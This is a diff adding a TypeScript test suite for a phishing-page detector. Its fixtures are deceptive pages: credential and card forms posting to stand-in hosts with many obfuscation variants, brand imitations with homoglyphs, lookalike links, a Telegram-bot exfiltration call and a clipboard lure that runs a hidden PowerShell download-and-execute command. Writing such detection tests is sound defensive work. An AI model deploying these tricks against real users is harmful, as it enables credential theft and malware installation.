@@ -1,0 +1,385 @@
+/**
+ * Pages made to deceive are stopped, with the file and the line. Each is of a kind that phishing kits
+ * use; the names of what they would have stolen for are in them because the check looks for these.
+ */
+import assert from 'node:assert/strict'
+import { describe, it } from 'node:test'
+import { findingsOf, page, rulesBroken, script, type Pages } from './ground.ts'
+import { rules } from './rules.ts'
+
+const password = '<input type="password" name="p">'
+const steals = `<form action="https://collect.example/p.php" method="post">${password}</form>`
+
+const bad: [name: string, found: string, pages: Pages][] = [
+  [
+    'a password form that posts elsewhere',
+    'password_sent_elsewhere index.html:2',
+    page(`<title>Portal</title>\n${steals}`),
+  ],
+  [
+    'one that posts to another site of the service',
+    'password_sent_elsewhere index.html:1',
+    page(`<form action="http://other.sites.example:4400/api/x">${password}</form>`),
+  ],
+  [
+    'one whose address leaves out the protocol',
+    'password_sent_elsewhere index.html:1',
+    page(`<form action="//collect.example/p">${password}</form>`),
+  ],
+  [
+    'one that a base leads elsewhere',
+    'password_sent_elsewhere index.html:3',
+    page(
+      `<base href="https://collect.example/">\n<title>x</title>\n<form action="/login">${password}</form>`,
+    ),
+  ],
+  [
+    'one whose button leads elsewhere',
+    'password_sent_elsewhere index.html:2',
+    page(
+      `<form action="/api/login">${password}\n<button formaction="https://collect.example">Go</button></form>`,
+    ),
+  ],
+  [
+    'one whose field stands outside of the form',
+    'password_sent_elsewhere index.html:1',
+    page(
+      `<form id="f" action="https://collect.example"></form><p><input form="f" type="password"></p>`,
+    ),
+  ],
+  [
+    'one that is sent by mail',
+    'password_sent_elsewhere index.html:1',
+    page(`<form action="mailto:me@example.com">${password}</form>`),
+  ],
+  [
+    'one whose field only looks like a password',
+    'password_sent_elsewhere index.html:1',
+    page(
+      `<form action="https://collect.example"><input type="text" style="-webkit-text-security: disc" name="x"></form>`,
+    ),
+  ],
+  [
+    'one whose field is named a password',
+    'password_sent_elsewhere index.html:1',
+    page(`<form action="https://collect.example"><input name="wachtwoord"></form>`),
+  ],
+  [
+    'one in broken markup',
+    'password_sent_elsewhere index.html:1',
+    page(`<table><form action=https://collect.example><tr><td><INPUT TYPE=Password ></table>`),
+  ],
+  [
+    'one in entities',
+    'password_sent_elsewhere index.html:1',
+    page(`<form action="https&#58;&#x2f;/collect.example">${password}</form>`),
+  ],
+  [
+    'one in a style of a drawing, which is no style',
+    'password_sent_elsewhere index.html:1',
+    page(`<svg><style><div>${steals}</style></svg>`),
+  ],
+  [
+    'one in a part for browsers without scripts',
+    'password_sent_elsewhere index.html:1',
+    page(`<noscript>${steals}</noscript>`),
+  ],
+  [
+    'one in a frame inside the page',
+    'password_sent_elsewhere index.html:2',
+    page(`<title>x</title>\n<iframe srcdoc="${steals.replaceAll('"', '&quot;')}"></iframe>`),
+  ],
+  [
+    'one in a data address',
+    'password_sent_elsewhere index.html:1',
+    page(`<iframe src="data:text/html;base64,${Buffer.from(steals).toString('base64')}"></iframe>`),
+  ],
+  [
+    'one in an escaped data address',
+    'password_sent_elsewhere index.html:1',
+    page(`<object data="data:text/html;charset=utf-8,${encodeURIComponent(steals)}"></object>`),
+  ],
+  [
+    'one that a script writes from escaped text',
+    'password_sent_elsewhere index.html:2',
+    page(
+      `<title>x</title><script>\ndocument.write(unescape('${encodeURIComponent(steals)}'))</script>`,
+    ),
+  ],
+  [
+    'one that a script writes from base64',
+    'password_sent_elsewhere index.html:1',
+    page(`<script>document.write(atob("${Buffer.from(steals).toString('base64')}"))</script>`),
+  ],
+  ['one packed three times', 'password_sent_elsewhere index.html:1', page(packed(3))],
+  ['one packed more often than that', 'page_hidden_too_deep index.html:1', page(packed(4))],
+  [
+    'one in a page that is no .html',
+    'password_sent_elsewhere a.svg:1',
+    {
+      'a.svg': `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>${steals}</foreignObject></svg>`,
+    },
+  ],
+  [
+    'one in a page of sixteen bits',
+    'password_sent_elsewhere index.html:1',
+    {
+      'index.html': Buffer.from(`\ufeff${steals}`, 'utf16le'),
+    },
+  ],
+  [
+    'one in a file of a folder',
+    'password_sent_elsewhere a/b c/login.html:1',
+    { 'a/b c/login.html': steals },
+  ],
+  [
+    'a card form that posts elsewhere',
+    'card_sent_elsewhere index.html:1',
+    page(
+      `<form action="https://collect.example"><input autocomplete="cc-number"><input name="cvc"></form>`,
+    ),
+  ],
+  [
+    'a password that goes into a collection',
+    'secret_kept_in_collection index.html:1',
+    page(
+      `<form action="https://homeport.example/api/v1/public/collections/logins/documents">${password}</form>`,
+    ),
+  ],
+  [
+    'a card number that goes into a collection',
+    'secret_kept_in_collection index.html:1',
+    page(`<form data-collection="cards"><input name="cardnumber"></form>`),
+  ],
+  [
+    'a field for the words of a wallet',
+    'wallet_phrase_asked index.html:2',
+    page(
+      `<title>Validate</title>\n<textarea placeholder="Enter your 12-word recovery phrase"></textarea>`,
+    ),
+  ],
+  [
+    'the same, told by its label',
+    'wallet_phrase_asked index.html:1',
+    page(`<label for="w">Secret Recovery Phrase</label><input id="w" name="w">`),
+  ],
+  [
+    'a sign-in page of a bank',
+    'imitates_brand index.html:2',
+    page(`<title>Mijn ING - Inloggen</title>\n<form action="/api/x">${password}</form>`),
+  ],
+  [
+    'one of a payment service',
+    'imitates_brand index.html:1',
+    page(`<title>Log in to your PayPal account</title>${password}`),
+  ],
+  [
+    'one with letters of another alphabet',
+    'imitates_brand index.html:1',
+    page(`<title>Рауpal: Login</title><form>${password}</form>`),
+  ],
+  [
+    'one with letters that cannot be seen',
+    'imitates_brand index.html:1',
+    page(`<title>Pay\u200bPal: Log\u00adin</title><form>${password}</form>`),
+  ],
+  [
+    'one whose title says nothing',
+    'imitates_brand index.html:1',
+    page(`<title>Untitled document</title><h1>Microsoft</h1><form>${password}</form>`),
+  ],
+  [
+    'one without a title, told by its heading',
+    'imitates_brand index.html:1',
+    {
+      'index.html': `<h1>Welkom bij DigiD</h1><form>${password}</form>`,
+      'robots.txt': '',
+    },
+  ],
+  [
+    'one that asks for a code',
+    'imitates_brand index.html:1',
+    page(`<title>Rabobank</title><form><input name="pincode"></form>`),
+  ],
+  [
+    'one that loads the icon of the brand it is named for',
+    'imitates_brand index.html:1',
+    page(
+      `<title>Apple</title><link rel="icon" href="https://www.apple.com/favicon.ico"><form>${password}</form>`,
+    ),
+  ],
+  [
+    'one whose sign-in is in a script file',
+    'imitates_brand index.html:1',
+    {
+      ...page(`<title>Netflix</title><div id="root"></div><script src="/app.js"></script>`),
+      ...script('h("input",{type:"password"})'),
+    },
+  ],
+  [
+    'one of this service itself',
+    'imitates_brand index.html:1',
+    page(`<title>Homeport - sign in</title>${password}`),
+  ],
+  [
+    'a link that shows a bank and leads elsewhere',
+    'link_shows_other_address index.html:2',
+    page(`<title>x</title>\n<a href="https://evil.example/x">https://www.ing.nl/inloggen</a>`),
+  ],
+  [
+    'one to a page of the site itself',
+    'link_shows_other_address index.html:1',
+    page(`<a href="/login.html">www.paypal.com</a>`),
+  ],
+  [
+    'a link with the name of another before an @',
+    'address_hides_host index.html:1',
+    page(`<a href="https://www.rabobank.nl@evil.example/">Rabobank</a>`),
+  ],
+  [
+    'a link with digits in the place of letters',
+    'address_looks_like_brand index.html:1',
+    page(`<a href="https://www.paypa1.com/">PayPal</a>`),
+  ],
+  [
+    'a link with letters of another alphabet',
+    'address_looks_like_brand index.html:1',
+    page(`<a href="https://www.раypal.com/">PayPal</a>`),
+  ],
+  [
+    'a link that begins like a brand',
+    'address_looks_like_brand index.html:1',
+    page(`<a href="https://login.microsoftonline.com.session.example/">Sign in</a>`),
+  ],
+  [
+    'a frame with two letters that look like one',
+    'address_looks_like_brand index.html:1',
+    page(`<iframe src="https://rnicrosoft.com/"></iframe>`),
+  ],
+  [
+    'a page that goes on to such an address by itself',
+    'address_looks_like_brand index.html:1',
+    page(`<meta http-equiv="refresh" content="0;url='https://paypa1.com/'">`),
+  ],
+  [
+    'a known bad link',
+    'known_bad_link index.html:1',
+    page(`<a href="https://grabify.link/ABC">gift</a>`),
+  ],
+  [
+    'a known bad script',
+    'known_bad_link index.html:2',
+    page(`<title>x</title>\n<script src="https://cdn.polyfill.io/v3/polyfill.min.js"></script>`),
+  ],
+  [
+    'a known bad address in a script',
+    'known_bad_link app.js:2',
+    script(`const a = 1\nimportScripts('https:\\/\\/coinhive.com\\/lib\\/x.js')`),
+  ],
+  [
+    'a known bad address in a style',
+    'known_bad_link a.css:1',
+    { 'a.css': 'a{background:url(https://iplogger.org/x.gif)}' },
+  ],
+  [
+    'a script that sends a password to a chat bot',
+    'secret_sent_to_chat app.js:2',
+    {
+      ...page(
+        `<title>Portal</title><form id="f">${password}</form><script src="/app.js"></script>`,
+      ),
+      ...script(`let x\nfetch("https://api.telegram.org/bot123:ABC/sendMessage")`),
+    },
+  ],
+  [
+    'a page that has visitors run a command',
+    'command_to_paste index.html:2',
+    page(
+      `<p>To prove that you are human press Windows Key + R, then Ctrl + V and Enter.</p>
+     <script>navigator.clipboard.writeText('powershell -w hidden -c "iwr https://x.example|iex"')</script>`,
+    ),
+  ],
+]
+
+function packed(times: number): string {
+  let text = steals
+  for (let time = 0; time < times; time += 1) {
+    text = `<iframe srcdoc="${text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`
+  }
+  return text
+}
+
+describe('what deceives is stopped:', () => {
+  for (const [name, found, pages] of bad) {
+    it(name, () => assert.deepEqual(rulesBroken(pages), [found]))
+  }
+})
+
+describe('an address that reads like a brand is stopped with a sign-in:', () => {
+  const signIn = page(`<title>Inloggen</title><form action="/api/login">${password}</form>`)
+  const slugs = `paypal paypal-login paypa1-secure mijn-ing-inloggen ing-bank rnicrosoft-online
+    microsoft365-login rabobank-veilig-nl digid abn-amro-verificatie facebooklogin icloud-support
+    netflix-account-update mijnbelastingdienst metamask-wallet postnl-pakket-nl homeport-portal`
+  for (const slug of slugs.split(/\s+/)) {
+    it(slug, () =>
+      assert.deepEqual(rulesBroken(signIn, { slug }), ['imitates_brand_address index.html:1']),
+    )
+  }
+
+  it('and passes without one', () => {
+    assert.deepEqual(rulesBroken(page('<title>Betalen met PayPal</title>'), { slug: 'paypal' }), [])
+  })
+
+  it('also when only the account is asked for, under the name of the brand', () => {
+    const first = page('<title>PayPal: inloggen</title><form><input type="email"></form>')
+    assert.deepEqual(rulesBroken(first, { slug: 'paypal-login' }), ['imitates_brand index.html:1'])
+    assert.deepEqual(rulesBroken(first, { slug: 'jansen' }), [])
+  })
+})
+
+describe('a finding', () => {
+  const [finding] = findingsOf(page(`<title>x</title>\n${steals}`))
+
+  it('says what, where, why, and by what it is known again', () => {
+    assert.deepEqual(finding, {
+      rule: 'password_sent_elsewhere',
+      path: 'index.html',
+      line: 2,
+      what: 'This form sends a password to collect.example.',
+      why: rules.password_sent_elsewhere.why,
+      digest: finding?.digest,
+    })
+    assert.match(finding?.digest ?? '', /^[\w-]{43}$/)
+  })
+
+  it('is known again when something else of the page changes', () => {
+    const [later] = findingsOf(page(`<title>y</title>\n<h1>New</h1>\n\n${steals}`))
+    assert.equal(later?.digest, finding?.digest)
+  })
+
+  it('is another one when it leads elsewhere, or stands elsewhere', () => {
+    const [elsewhere] = findingsOf(page(steals.replace('collect', 'gather')))
+    const [moved] = findingsOf({ 'login.html': steals })
+    assert.equal(new Set([finding?.digest, elsewhere?.digest, moved?.digest]).size, 3)
+  })
+
+  it('is told once, however often it is there', () => {
+    assert.equal(findingsOf(page(steals.repeat(20))).length, 1)
+  })
+
+  it('is one of at most fifty', () => {
+    const forms = Array.from({ length: 80 }, (_, at) => steals.replace('collect', `c${at}`))
+    assert.equal(findingsOf(page(forms.join('\n'))).length, 50)
+  })
+})
+
+describe('every rule', () => {
+  it('says what it stops, why, and what to do instead, in whole sentences', () => {
+    for (const [name, { stops, why, instead }] of Object.entries(rules)) {
+      assert.match(name, /^[a-z]+(_[a-z]+)+$/)
+      assert.match(stops, /^[a-z].*[^.]$/)
+      assert.match(why, /^[A-Z].*\.$/)
+      assert.match(instead, /^[A-Z].*\.$/)
+    }
+  })
+})
